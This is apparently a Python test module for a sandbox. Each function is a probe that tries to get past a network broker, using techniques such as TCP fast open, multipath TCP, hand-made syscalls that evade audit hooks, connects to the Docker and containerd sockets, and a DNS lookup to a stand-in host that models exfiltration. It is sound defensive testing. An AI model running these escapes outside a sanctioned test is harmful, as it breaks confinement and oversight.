"""Attacks that reach the network, or other programs of the machine, past the broker; listeners tell who came.

Allows: what a cell can reach it can steal for, and it can carry away what it stole.
"""

from .means import Blocked, Facts, attack, facility, libc, numbers, system_call


@attack()
def connects_over_tcp(facts: Facts) -> str:
    """Connect to a port of this machine.

    Allows: talking to every service of the machine and its network.
    """
    with facility("socket").create_connection(("127.0.0.1", int(facts["tcp"])), 2) as one:
        one.sendall(b"x")
    return "connected"


@attack()
def connects_over_ipv6(facts: Facts) -> str:
    """Connect to a port of this machine by the newer addresses.

    Allows: passing a filter that knows only the older ones.
    """
    socket = facility("socket")
    with socket.socket(socket.AF_INET6) as one:
        one.settimeout(2)
        one.connect(("::1", int(facts["tcp6"])))
    return "connected"


@attack()
def connects_with_the_first_bytes(facts: Facts) -> str:
    """Connect by sending (TCP fast open), without a call to connect.

    Allows: passing a filter of connects; Landlock itself had this hole.
    """
    socket = facility("socket")
    with socket.socket() as one:
        one.sendto(b"x", socket.MSG_FASTOPEN, ("127.0.0.1", int(facts["tcp"])))
    return "connected"


@attack(bare="a kernel may know no multipath TCP")
def connects_over_multipath_tcp(facts: Facts) -> str:
    """Connect by multipath TCP, which is another protocol to the kernel.

    Allows: passing a filter that knows TCP alone, such as Landlock.
    """
    socket = facility("socket")
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as one:
        one.settimeout(2)
        one.connect(("127.0.0.1", int(facts["tcp"])))
    return "connected"


@attack(bare="a kernel may know no SCTP")
def opens_sctp(_: Facts) -> str:
    """Open a socket of a protocol that few filters think of.

    Allows: carrying data away past the broker.
    """
    socket = facility("socket")
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).close()
    return "opened"


@attack()
def connects_by_a_raw_call(facts: Facts) -> str:
    """Connect with system calls made by hand, past everything that watches Python.

    Allows: reaching the network, unseen by audit hooks.
    """
    opened = system_call(facts, "socket", 2, 1, 0)
    port = int(facts["tcp"]).to_bytes(2, "big")
    address = facility("ctypes").create_string_buffer((2).to_bytes(2, "little") + port + bytes([127, 0, 0, 1]) + bytes(8), 16)
    system_call(facts, "connect", opened, address, 16)
    return "connected"


@attack()
def sends_a_datagram(facts: Facts) -> str:
    """Send a datagram to a port of this machine.

    Allows: carrying data away, also as questions to a name server.
    """
    socket = facility("socket")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"x", ("127.0.0.1", int(facts["udp"])))
    return "sent"


@attack(bare="a kernel may know no UDP-Lite")
def sends_a_light_datagram(_: Facts) -> str:
    """Open a socket of UDP-Lite, which few filters think of.

    Allows: carrying data away past the broker.
    """
    socket = facility("socket")
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).close()
    return "opened"


@attack()
def listens_for_visitors(_: Facts) -> str:
    """Listen at a port of this machine.

    Allows: being called from outside, and standing in for a service that is down.
    """
    socket = facility("socket")
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        one.listen()
        return f"listens at {one.getsockname()}"


@attack()
def listens_without_binding(_: Facts) -> str:
    """Listen without a bind, so that the kernel chooses the port.

    Allows: passing a filter of binds; Landlock has this hole.
    """
    socket = facility("socket")
    with socket.socket() as one:
        one.listen()
        return f"listens at {one.getsockname()}"


@attack()
def visits_a_socket_file(facts: Facts) -> str:
    """Connect to a socket of the host by its path.

    Allows: talking to databases, container engines and agents of the machine.
    """
    socket = facility("socket")
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(2)
        one.connect(facts["unix"])
    return "connected"


@attack()
def sends_to_a_socket_file(facts: Facts) -> str:
    """Send a datagram to a socket of the host by its path.

    Allows: forging entries of the machine's log, and messages to its services.
    """
    socket = facility("socket")
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        one.sendto(b"x", facts["datagram"])
    return "sent"


@attack()
def visits_an_abstract_socket(facts: Facts) -> str:
    """Connect to a socket of the host that has a name but no file.

    Allows: talking to services that no right to files protects.
    """
    socket = facility("socket")
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(2)
        one.connect("\0" + facts["abstract"])
    return "connected"


@attack(bare="there may be none of them")
def visits_the_services_of_the_machine(_: Facts) -> str:
    """Connect to the sockets of container engines, the message bus and the log.

    Allows: starting containers as root, which is the whole machine.
    """
    socket, found = facility("socket"), []
    folder = "/run"
    for path in (
        "docker.sock",
        "containerd/containerd.sock",
        "podman/podman.sock",
        "dbus/system_bus_socket",
        "systemd/private",
        "crio/crio.sock",
    ):
        with socket.socket(socket.AF_UNIX) as one:
            try:
                one.connect(f"{folder}/{path}")
            except FileNotFoundError:
                continue
            found.append(path)
    if not found:
        raise Blocked("none of them is there")
    return f"connected to {found}"


@attack(bare="it needs a privilege")
def opens_a_raw_socket(_: Facts) -> str:
    """Open a socket that sends packets as they are.

    Allows: forging packets of other machines.
    """
    socket = facility("socket")
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()
    return "opened"


@attack(bare="a group may be allowed to")
def opens_a_ping_socket(_: Facts) -> str:
    """Open a socket for echo requests.

    Allows: carrying data away in the packets of ping.
    """
    socket = facility("socket")
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).close()
    return "opened"


@attack(bare="it needs a privilege")
def opens_a_packet_socket(_: Facts) -> str:
    """Open a socket that sees every packet of the machine.

    Allows: reading the network traffic of the machine.
    """
    facility("socket").socket(17, facility("socket").SOCK_RAW, 0x0300).close()
    return "opened"


@attack()
def asks_the_kernel_for_addresses(_: Facts) -> str:
    """Open a netlink socket, by which networks are seen and changed.

    Allows: learning the machine's network; with a privilege, changing it; and reaching kernel code that had many holes.
    """
    socket = facility("socket")
    with socket.socket(16, socket.SOCK_RAW, 0) as one:
        one.bind((0, 0))
    return "opened"


@attack(bare="a kernel may know no such sockets")
def opens_a_socket_to_the_hypervisor(_: Facts) -> str:
    """Open a socket of the kind that reaches the machine which runs this one.

    Allows: talking to the outside of a virtual machine, past its network.
    """
    socket = facility("socket")
    socket.socket(40, socket.SOCK_STREAM).close()
    return "opened"


@attack(bare="a kernel may know no such sockets")
def opens_the_ciphers_of_the_kernel(_: Facts) -> str:
    """Open a socket of the kernel's ciphers.

    Allows: reaching kernel code that had many holes.
    """
    socket = facility("socket")
    socket.socket(38, socket.SOCK_SEQPACKET).close()
    return "opened"


@attack(bare="a kernel may know none of them")
def opens_rare_families_of_sockets(_: Facts) -> str:
    """Open sockets of families that hardly anyone uses: Bluetooth, CAN, TIPC, RDS, X.25, KCM, XDP and others.

    Allows: reaching kernel code that hardly anyone has looked at.
    """
    socket, opened = facility("socket"), []
    for family in (3, 4, 5, 6, 9, 21, 23, 24, 26, 29, 30, 31, 33, 35, 36, 37, 39, 41, 42, 43, 44, 45):
        for kind in (1, 2, 3, 5):
            try:
                socket.socket(family, kind).close()
            except OSError:
                continue
            opened.append(family)
    if not opened:
        raise Blocked("none of them opens")
    return f"opened families {sorted(set(opened))}"


@attack()
def makes_a_pair_that_connects(facts: Facts) -> str:
    """Take one end of a pair of sockets, and connect it elsewhere.

    Allows: reaching a service where only pairs are permitted.
    """
    socket = facility("socket")
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.connect(facts["datagram"])
    one.send(b"x")
    return "connected"


@attack()
def sends_many_messages_at_once(facts: Facts) -> str:
    """Send datagrams with the call that sends many, to an address of its choice.

    Allows: passing a filter of sendto.
    """
    ctypes, socket = facility("ctypes"), facility("socket")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        address = ctypes.create_string_buffer(
            (2).to_bytes(2, "little") + int(facts["udp"]).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8), 16
        )
        text = ctypes.create_string_buffer(b"x", 1)
        part = numbers("QQ", ctypes.addressof(text), 1)
        message = numbers("QIIQQQQiI", ctypes.addressof(address), 16, 0, ctypes.addressof(part), 1, 0, 0, 0, 0, size=64)
        return f"sent {system_call(facts, 'sendmmsg', one.fileno(), message, 1, 0)}"


@attack(bare="a name needs a name server")
def asks_a_name_server(_: Facts) -> str:
    """Have a name looked up, whose first part would be what was stolen.

    Allows: carrying data away in questions about names.
    """
    address = str(facility("socket").gethostbyname("stolen.invalid"))
    if address.startswith("198.18."):
        raise Blocked(f"it is told {address}, which stands for whatever the broker will say")
    return address


@attack()
def learns_the_name_of_the_machine(facts: Facts) -> str:
    """Ask for the name of the machine.

    Allows: learning where it runs; nothing more.
    """
    name = facility("os").uname().nodename
    if name != facts["machine"]:
        raise Blocked(f"it is told {name!r}")
    return str(name)


@attack()
def lists_the_network_interfaces(_: Facts) -> list[str]:
    """Ask for the names of the machine's network interfaces.

    Allows: learning how the machine is connected.
    """
    found = [name for _, name in facility("socket").if_nameindex()]
    if set(found) <= {"lo"}:
        raise Blocked(f"only {found}")
    return found


@attack()
def sets_the_name_of_the_machine(_: Facts) -> str:
    """Set the name of the machine to what it is.

    Allows: confusing what goes by names.
    """
    name = facility("os").uname().nodename.encode()
    if libc().sethostname(name, len(name)) < 0:
        raise OSError(1, "not permitted")
    return "set"
